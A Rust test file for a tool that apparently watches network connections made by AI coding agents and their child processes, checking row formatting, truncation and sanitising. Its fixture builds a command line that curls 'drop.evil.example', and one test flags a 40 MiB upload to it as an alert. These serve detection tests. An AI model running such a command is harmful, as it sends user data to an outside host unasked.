use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::connection::End;
use crate::event::{Bytes, Class, ConnectionId, DomainSource, KnownName, Moment, Role, SourceKind};
use crate::process::ProcessId;

const WIDTHS: [usize; 10] = [7, 20, 40, 60, 80, 100, 120, 150, 161, 200];

/// Of an agent and a program that it runs.
fn connection((agent, agent_pid): (&str, u32), (program, pid): (&str, u32), remote: &str) -> Connection {
    let mut connection = Connection::new(ConnectionId(1), Role::Connect, Protocol::Tcp, Moment::default());
    let id = |pid| ProcessId { pid, start_time: 1 };
    let call = Call { agent: agent.into(), agent_id: id(agent_pid), session: None, tool: None };
    connection.process = Some(Arc::new(Process {
        program: program.to_owned(),
        cmdline: format!("{program} -sk https://drop.evil.example/"),
        call: Some(Arc::new(call)),
        ..Process::unknown(id(pid))
    }));
    connection.remote = Some(Address::ip(remote.parse().expect("an address")));
    connection.provider = "anthropic".into();
    connection.source = SourceKind::EbpfFentry;
    connection
}

fn row(kind: EventKind, connection: &Connection, columns: usize) -> String {
    let at = Moment { boot_ns: 0, unix_ms: 1_768_699_777_000 };
    let event = Event { kind, at, connection: Arc::new(connection.clone()) };
    let mut line = String::new();
    write(&mut line, &event, &Look { columns, clock: &Clock::Utc, styles: &Styles::PLAIN });
    line.strip_suffix('\n').expect("a whole line").to_owned()
}

fn named(mut connection: Connection, name: &str, by: DomainSource, class: Class) -> Connection {
    connection.name = Some(KnownName { name: name.into(), by });
    connection.class = class;
    connection
}

fn ended(mut connection: Connection, ms: u64, sent: u64, received: u64) -> Connection {
    connection.bytes = Some(Bytes { sent, received });
    let duration = Some(Duration::from_millis(ms));
    let at = Moment::default();
    connection.ended = Some(End { at, duration, error: None, is_late: false, has_failed: false });
    connection
}

#[test]
fn a_row_says_who_where_to_and_what_became_of_it() {
    let api = named(
        connection(("claude", 29), ("claude", 29), "203.0.113.7:443"),
        "example.com",
        DomainSource::Ptr,
        Class::Unknown,
    );
    let mut drop = connection(("claude", 21914), ("curl", 22069), "198.51.100.66:443");
    drop.alert = true;
    let drop = ended(drop, 123, 40 << 20, 2765);
    let mut refused = connection(("codex", 7), ("git", 8), "192.0.2.1:22");
    refused.ended = Some(End {
        at: Moment::default(),
        duration: None,
        error: Some(111),
        is_late: false,
        has_failed: true,
    });
    let rows = [
        row(EventKind::Connect, &api, 80),
        row(EventKind::Close, &drop, 80),
        row(EventKind::Fail, &refused, 80),
    ];
    let expected = [
        "01:29:37 + claude(29)               ~example.com:443        unknown",
        "01:29:37 - claude(21914)›curl(22069) 198.51.100.66:443 ! 0.1s ↑40.0 MiB ↓2.7 KiB",
        "01:29:37 × codex(7)›git(8)           192.0.2.1:22           ECONNREFUSED unknown",
    ];
    assert_eq!(rows, expected, "{rows:#?}");
}

#[test]
fn the_readme_shows_rows_as_they_are() {
    let api = named(
        connection(("claude", 2000), ("claude", 2000), "203.0.113.7:443"),
        "api.anthropic.com",
        DomainSource::Sni,
        Class::LlmApi,
    );
    let registry = named(
        connection(("claude", 2000), ("node", 2290), "203.0.113.40:443"),
        "registry.npmjs.org",
        DomainSource::Dns,
        Class::Registry,
    );
    let mut drop = connection(("claude", 2000), ("curl", 2311), "198.51.100.66:443");
    let mut refused = connection(("claude", 2000), ("git", 2320), "192.0.2.1:22");
    let at = Moment::default();
    refused.ended = Some(End { at, duration: None, error: Some(111), is_late: false, has_failed: true });
    let mut rows = vec![
        row(EventKind::Connect, &api, 80),
        row(EventKind::Close, &ended(registry, 1_234, 2_100, 345_000), 80),
        row(EventKind::Connect, &drop, 80),
        row(EventKind::Fail, &refused, 80),
    ];
    drop.alert = true;
    rows.push(row(EventKind::Close, &ended(drop, 9_100, 40 << 20, 2_765), 80));
    let readme = include_str!("../../../../README.md");
    let block = rows.iter().fold(String::new(), |text, row| text + "    " + row + "\n");
    assert!(readme.contains(&block), "README.md lacks\n{block}");
}

#[test]
fn no_row_is_wider_than_the_terminal_whatever_it_holds() {
    let long = "a-program-with-a-very-long-name-日本語-日本語";
    let six = "[2001:db8:85a3:8d3:1319:8a2e:370:7348]:50443";
    let plain = connection(("kiro-cli-chat", 4_194_303), (long, 4_194_304), six);
    let name = "a-very-long-label-in-front.日本語.and-the-domain.example";
    let mut with_name = named(plain.clone(), name, DomainSource::Ptr, Class::Telemetry);
    with_name.protocol = Protocol::Udp;
    let mut refused = plain.clone();
    let at = Moment::default();
    refused.ended = Some(End { at, duration: None, error: Some(111), is_late: false, has_failed: true });
    let mut marked = ended(with_name.clone(), 86_400_000_000, u64::MAX, u64::MAX);
    marked.alert = true;
    let mut hostile = plain.clone();
    let process = Process {
        program: "x\x1b[2J\n\u{202e}|".to_owned(),
        ..(**hostile.process.as_ref().expect("one")).clone()
    };
    hostile.process = Some(Arc::new(process));
    let cases = [
        (EventKind::Connect, &plain),
        (EventKind::Connect, &with_name),
        (EventKind::Close, &marked),
        (EventKind::Fail, &refused),
        (EventKind::Accept, &plain),
        (EventKind::Listen, &plain),
        (EventKind::Connect, &hostile),
    ];
    for columns in WIDTHS {
        for (kind, connection) in cases {
            let row = row(kind, connection, columns);
            assert!(row.width() <= columns, "{columns}: {row}");
            assert!(!row.chars().any(|c| c.is_control() || c == '\u{202e}'), "{row:?}");
            let has_agent = row.contains("kiro-cli-chat");
            assert!(columns < 40 || has_agent, "{columns}: {row}");
        }
        let row = row(EventKind::Connect, &plain, columns);
        assert!(columns < 60 || row.contains("]:50443"), "{columns}: {row}");
    }
}

#[test]
fn columns_stand_below_each_other() {
    let short = connection(("claude", 1), ("claude", 1), "192.0.2.1:443");
    let long = connection(("claude", 21914), ("curl", 2206), "198.51.100.66:443");
    let starts = |columns: usize| {
        let place = |connection: &Connection, what: &str| {
            let row = row(EventKind::Connect, connection, columns);
            row[..row.find(what).expect("it is there")].width()
        };
        let ends = (place(&short, "192.0.2.1:443"), place(&long, "198.51.100.66:443"));
        (ends.0 == ends.1, place(&short, "unknown") == place(&long, "unknown"))
    };
    for columns in [80, 100, 120, 160, 200] {
        assert_eq!(starts(columns), (true, true), "{columns}");
    }
}

#[test]
fn the_end_of_a_name_is_kept_and_both_of_an_ipv6_address() {
    for (end, columns, expected) in [
        ("api.example.com:443", 19, "api.example.com:443"),
        ("api.example.com:443", 16, "…example.com:443"),
        ("~a.日本.example:443", 13, "….example:443"),
        ("[2001:db8:85a3:8d3::7348]:443", 20, "[2001:db…::7348]:443"),
        ("[2001:db8::1]:443", 6, "…]:443"),
        ("x", 0, ""),
    ] {
        assert_eq!(shorten(end, columns), expected, "{end} in {columns}");
    }
}

#[test]
fn who_gets_shorter_from_the_program_on() {
    let connection = connection(("claude", 21914), ("a-long-program", 22069), "192.0.2.1:443");
    let who = Who::of(connection.process.as_deref());
    for (columns, expected) in [
        (80, "claude(21914)›a-long-program(22069)"),
        (32, "claude(21914)›a-long-pro…(22069)"),
        (24, "claude(21914)›a-long-pr…"),
        (14, "claude›a-long…"),
        (8, "claude"),
        (2, "claude"),
    ] {
        let (agent, program) = who.fit(columns);
        assert_eq!(agent + &program, expected, "{columns}");
    }
}
